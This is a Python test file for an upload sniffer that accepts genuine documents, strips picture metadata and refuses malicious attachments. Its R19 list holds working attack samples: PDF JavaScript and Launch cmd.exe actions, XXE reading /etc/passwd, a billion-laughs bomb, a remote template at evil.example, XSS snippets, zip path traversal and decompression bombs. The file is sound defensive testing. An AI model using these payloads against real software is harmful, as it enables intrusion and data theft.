"""Attachments by their bytes: what is kept, and R19: what is refused, with the reason, in little time and memory."""

import io
import resource
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
import xlsxwriter
from PIL import Image

from lib.files.sniff import MOST_NAME, UPLOAD, FileRefused, clean_name, sniff
from lib.settings import ROOT
from tests.unit.test_tables import flagged_encrypted, lying_about_size

_TYPES = '<?xml version="1.0"?><Types><Override PartName="/{part}" ContentType="{type}"/></Types>'
_OOXML = "application/vnd.openxmlformats-officedocument."
_MAIN = {
    "docx": ("word/document.xml", f"{_OOXML}wordprocessingml.document.main+xml"),
    "pptx": ("ppt/presentation.xml", f"{_OOXML}presentationml.presentation.main+xml"),
}
_RELATION = (
    '<Relationships><Relationship Type="http://x/{type}" Target="{target}" TargetMode="External"/></Relationships>'
)


def office(ending: str = "docx", *, kind: str = "", text: str = "<w:p>正文</w:p>", **parts: bytes) -> bytes:
    """A small office file with this text and these parts more."""
    part, main = _MAIN[ending]
    body = f'<?xml version="1.0"?><w:document xmlns:w="http://w">{text}</w:document>'
    members = {
        "[Content_Types].xml": _TYPES.format(part=part, type=kind or main).encode(),
        part: body.encode(),
        **parts,
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in members.items():
            if content is not None:
                packed.writestr(name, content)
    return buffer.getvalue()


def relation(kind: str, target: str) -> bytes:
    return office(**{"word/_rels/document.xml.rels": _RELATION.format(type=kind, target=target).encode()})


def pdf(inside: bytes = b"<</Type/Catalog>>", head: bytes = b"") -> bytes:
    return b"%PDF-1.7\n" + head + b"1 0 obj" + inside + b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def packed_pdf(inside: bytes) -> bytes:
    stream = zlib.compress(b"1 0 " + inside)
    return pdf(b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\r\n" + stream + b"\r\nendstream ")


def picture(kind: str, **saved: object) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (60, 40), "#1F6FB2").save(buffer, kind, **saved)
    return buffer.getvalue()


def huge_png(width: int, height: int) -> bytes:
    """A PNG whose header promises this size; its points are missing."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def workbook() -> bytes:
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer, {"in_memory": True}) as book:
        book.add_worksheet().write("A1", "稀土")
        book.worksheets()[0].write_url("A2", "https://example.com/")
    return buffer.getvalue()


def twice() -> bytes:
    """An archive in which one name stands twice."""
    buffer = io.BytesIO(office())
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(buffer, "a") as packed:
        packed.writestr("word/document.xml", b"<a/>")
    return buffer.getvalue()


GPS = Image.Exif()
GPS[0x8825] = {1: "N", 2: (40.0, 50.0, 0.0)}
LAUGHS = (
    b"<!DOCTYPE l [<!ENTITY a 'ha'>"
    + b"".join(b"<!ENTITY %c '%s'>" % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(9))
    + b"]><l>&j;</l>"
)
EXTERNAL = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
MARKED = "密级：机密\n某型装备参数"


@pytest.mark.parametrize(
    ("name", "data", "same"),
    [
        ("中试报告.pdf", pdf(), True),
        ("a.PDF", packed_pdf(b"<</Type/Page/Annots[]>>"), True),
        ("说明.docx", office(), True),
        ("链接.docx", relation("relationships/hyperlink", "https://example.com/"), True),
        ("路演.pptx", office("pptx"), True),
        ("预算.xlsx", workbook(), True),
        ("备注.txt", "保密协议与商业秘密保护办法，解密算法".encode("gb18030"), True),
        ("现场.jpg", picture("JPEG", exif=GPS.tobytes()), False),
        ("图.png", picture("PNG"), False),
    ],
)
def test_a_real_document_is_kept_as_it_is_and_a_picture_is_drawn_anew(name: str, data: bytes, same: bool) -> None:
    kept = sniff(data, clean_name(name))
    if same:
        assert kept.data == data
        return
    drawn = Image.open(io.BytesIO(kept.data))
    assert drawn.size == (60, 40)
    assert not drawn.getexif()
    assert b"Exif" not in kept.data


def test_a_name_becomes_a_plain_name() -> None:
    assert clean_name("../../etc/cron.d/报告.PDF") == "报告.pdf"
    assert clean_name("C:\\Users\\甲\\图\u200b.Png") == "图.png"
    assert clean_name("a\r\nSet-Cookie: x=1.txt") == "a Set-Cookie: x=1.txt"
    assert len(clean_name("长" * 5000 + ".docx")) == MOST_NAME


R19: list[tuple[str, Callable[[], bytes] | bytes, str]] = [
    ("a.pdf", b"", "空"),
    ("a.pdf", b"%PDF-" + b"0" * UPLOAD.size, "太大"),
    ("a.pdf", b"plain text", "内容却不是"),
    ("a.pdf", picture("PNG"), "内容却不是"),
    ("a.png", pdf(), "内容却不是"),
    ("a.jpg", picture("PNG"), "内容却不是"),
    ("a.pdf", b"MZ\x90\x00" + b"\0" * 64, "内容却不是"),
    ("a.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "内容却不是"),
    ("a.svg", b"<svg/>", "只能上传"),
    ("a.pdf.exe", b"MZ", "只能上传"),
    ("a.docm", office(), "只能上传"),
    ("a.exe.pdf", pdf(), "两个扩展名"),
    ("报价\u202efdp.docx", office(), "改变文字方向"),
    ("../../.pdf", pdf(), "只能上传"),
    ("a.pdf", pdf(head=b"<html><script>alert(1)</script>"), "伪装"),
    ("a.pdf", lambda: pdf() + office() + b"%%EOF", "伪装"),
    ("a.pdf", pdf(b"<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"), "脚本"),
    ("a.pdf", pdf(b"<</OpenAction<</S/J#61vaScript/JS(1)>>>>"), "脚本"),
    ("a.pdf", packed_pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), "脚本"),
    ("a.pdf", pdf(b"<</S/Launch/F(cmd.exe)>>"), "脚本"),
    ("a.pdf", pdf(b"<</Type/EmbeddedFile>>"), "脚本"),
    ("a.pdf", lambda: packed_pdf(b"0" * 120_000_000), "解压后过大"),
    ("a.docx", office(kind="application/vnd.ms-word.document.macroEnabled.main+xml"), "宏"),
    ("a.docx", office(**{"word/vbaProject.bin": b"x"}), "宏"),
    ("a.docx", office(**{"word/embeddings/oleObject1.bin": b"x"}), "嵌入的对象"),
    ("a.docx", office(**{"word/activeX/activeX1.xml": b"<a/>"}), "控件"),
    ("a.docx", office(**{"word/embeddings/inner.zip": b"PK"}), "嵌入的对象"),
    ("a.docx", office(**{"word/media/run.exe": b"MZ"}), "嵌入的对象"),
    ("a.docx", relation("relationships/attachedTemplate", "http://evil.example/t.dotm"), "外部的模板"),
    ("a.docx", relation("relationships/image", "\\\\evil\\share\\x.png"), "外部的模板"),
    ("a.docx", relation("relationships/hyperlink", "javascript:alert(1)"), "外部的模板"),
    ("a.docx", office(**{"word/settings.xml": EXTERNAL.encode()}), "DOCTYPE"),
    ("a.docx", office(**{"word/settings.xml": EXTERNAL.encode("utf-16")}), "DOCTYPE"),
    ("a.docx", office(**{"word/settings.xml": LAUGHS}), "DOCTYPE"),
    ("a.docx", lambda: office(**{"word/media/a.dat": b"0" * 120_000_000}), "解压后过大"),
    ("a.docx", lambda: lying_about_size(office(**{"word/media/a.dat": b"0" * 2_000_000})), "解压后过大"),
    ("a.docx", lambda: office(**{f"word/{i}": b"" for i in range(10_000)}), "部件太多"),
    ("a.docx", flagged_encrypted(office()), "加密"),
    ("a.docx", office(**{"../../etc/passwd": b"x"}), "不安全"),
    ("a.docx", twice, "不安全"),
    ("a.docx", office()[:-100], "损坏"),
    ("a.docx", office("pptx"), "内容却不是"),
    ("a.docx", workbook(), "内容却不是"),
    ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "旧版或加密"),
    ("a.png", huge_png(50_000, 50_000), "4000 万点"),
    ("a.png", huge_png(6_000, 6_000), "损坏"),
    ("a.png", picture("PNG")[:60], "损坏"),
    ("a.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 400, "损坏"),
    ("a.txt", "没有标记".encode("utf-16-le"), "内容却不是"),
    ("a.txt", bytes(range(256)), "编码"),
    ("a.txt", b"text\0text", "内容却不是"),
    ("a.txt", b"  <!DOCTYPE html><script>alert(1)</script>", "网页或程序"),
    ("a.txt", MARKED.encode(), "涉密"),
    ("a.docx", office(text="<w:p><w:r>密级</w:r><w:r>：机密</w:r></w:p>"), "涉密"),
]
"""Name, bytes, and words of the reason."""


def refuse_all() -> tuple[float, int]:
    """Every file of R19 is refused with its reason; the longest time (seconds) and the largest process (MB) it took."""
    slowest = 0.0
    for name, made, words in R19:
        data = made() if callable(made) else made
        start = time.monotonic()
        with pytest.raises(FileRefused) as refusal:
            sniff(data, clean_name(name))
        slowest = max(slowest, time.monotonic() - start)
        assert words in str(refusal.value), f"{name}: {refusal.value}"
        assert str(refusal.value).endswith("。")
        assert (refusal.value.rule != "") == (words == "涉密")
    return slowest, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024


def test_what_is_no_honest_document_is_refused_with_the_reason() -> None:
    """R19: malicious attachments; those of table imports stand in test_tables."""
    # In a process of its own: one that is born counts the memory of its parent, which has run other tests here.
    script = "from tests.unit.test_sniff import refuse_all; print(*refuse_all())"
    done = subprocess.run([sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    slowest, memory = (float(figure) for figure in done.stdout.split())
    print(f"R19: {len(R19)} malicious attachments refused, slowest {slowest:.1f} s, largest process {memory:.0f} MB")
    assert len(R19) >= 30
    assert slowest <= UPLOAD.seconds
    assert memory <= 600


def test_nothing_is_written_while_a_file_is_looked_at(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    with pytest.raises(FileRefused):
        sniff(MARKED.encode(), "a.txt")
    assert list(tmp_path.iterdir()) == []
